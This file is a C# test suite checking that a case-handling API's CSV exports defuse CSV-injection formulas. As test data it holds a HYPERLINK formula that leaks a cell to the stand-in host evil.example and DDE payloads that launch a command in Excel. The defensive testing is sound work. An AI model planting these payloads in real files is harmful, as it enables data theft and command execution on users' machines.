using System.Text;
using Infohus.Api;
using Infohus.Api.Cases.Disclosing;

namespace Infohus.Specs.Api.Legal;

/// <summary>
/// CSV injection (OWASP): a field that starts with =, +, -, @, a tab or a carriage return is run by
/// Excel as a formula. Legal opens the access log and the disclosure log in Excel, and both carry texts
/// a caller wrote: a purpose, a recipient's name and role, a necessity.
/// </summary>
public class when_a_csv_field_reads_like_a_formula(InfohusApp app) : ApiSpec(app)
{
    private const string Exfiltrate = "=HYPERLINK(\"http://evil.example/?\"&H2,\"Klik her\")";

    [Fact]
    public async Task a_purpose_written_as_a_formula_reaches_legals_access_log_csv_as_text()
    {
        var @case = await Host.ReferralFromEmployee();
        await Host.Get(@case.Url(), Caller.BfuMember, Exfiltrate);
        await Host.Get(@case.Url(), Caller.BfuMember, "@SUM(1+1)*cmd|' /C calc'!A0");

        var rows = await Csv($"/api/access-log?caseId={@case.Id}", purpose: null);

        rows[0].ShouldBe(["readAt", "caseId", "userId", "role", "department", "endpoint", "purpose"]);
        rows.Skip(1).Select(r => r[^1]).ShouldBe(["'" + Exfiltrate, "'@SUM(1+1)*cmd|' /C calc'!A0"]);
        NoFieldRunsAsAFormula(rows);
    }

    [Fact]
    public async Task a_recipient_and_a_necessity_written_as_formulas_reach_the_disclosure_csv_as_text()
    {
        var @case = await Host.InterviewedReferral();
        var disclosure = Given.Disclosure(@case.Version) with
        {
            Recipient = new Recipient(RecipientType.School, "=1+1", "+45 98 92 22 22"),
            Necessity = "-2+3+cmd|' /C calc'!A0"
        };
        await Host.Step(@case, "disclosures", disclosure);

        var rows = await Csv("/api/disclosures", purpose: "quarterly §115 review");

        var header = rows[0];
        var line = rows[1];
        line[Array.IndexOf(header, "recipientName")].ShouldBe("'=1+1");
        line[Array.IndexOf(header, "recipientRole")].ShouldBe("'+45 98 92 22 22");
        line[Array.IndexOf(header, "necessity")].ShouldBe("'-2+3+cmd|' /C calc'!A0");
        NoFieldRunsAsAFormula(rows);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    public void every_csv_neutralises_a_field_that_starts_like_a_formula(string field)
    {
        var csv = DanishCsv.Start().Line(["label", field]).ToString();

        Fields(csv).Single()[1].ShouldBe("'" + field);
    }

    [Theory]
    [InlineData("-3")]
    [InlineData("-12,5")]
    [InlineData("<5")]
    [InlineData("..")]
    [InlineData("2026-01-01T00:00:00.0000000+00:00")]
    public void a_number_or_a_plain_value_is_written_as_it_is(string field)
    {
        var csv = DanishCsv.Start().Line(["label", field]).ToString();

        Fields(csv).Single()[1].ShouldBe(field);
    }

    private static void NoFieldRunsAsAFormula(IEnumerable<string[]> rows)
    {
        foreach (var field in rows.SelectMany(r => r))
            (field.Length > 0 && "=+-@\t\r\n".Contains(field[0])).ShouldBeFalse($"Excel would run the field {field}");
    }

    private async Task<IReadOnlyList<string[]>> Csv(string url, string? purpose)
    {
        var result = await Host.Scenario(s =>
        {
            s.Get.Url(url);
            s.WithRequestHeader("Accept", "text/csv");
            if (purpose is not null) s.WithRequestHeader("X-Purpose", purpose);
            s.WithRequestHeader("Authorization", $"Bearer {Host.TokenFor(Caller.Legal)}");
        });
        return Fields(await result.ReadAsTextAsync());
    }

    /// <summary>The fields of each line as Excel reads them: ';' between fields, '"' around a field that holds ';', '"' or a line end.</summary>
    private static IReadOnlyList<string[]> Fields(string csv)
    {
        var rows = new List<string[]>();
        var (row, field, quoted) = (new List<string>(), new StringBuilder(), false);
        var text = csv.TrimStart('\uFEFF');
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"' && field.Length == 0) quoted = true;
            else if (c == ';') { row.Add(field.ToString()); field.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
                i++;
            }
            else field.Append(c);
        }
        return rows;
    }
}
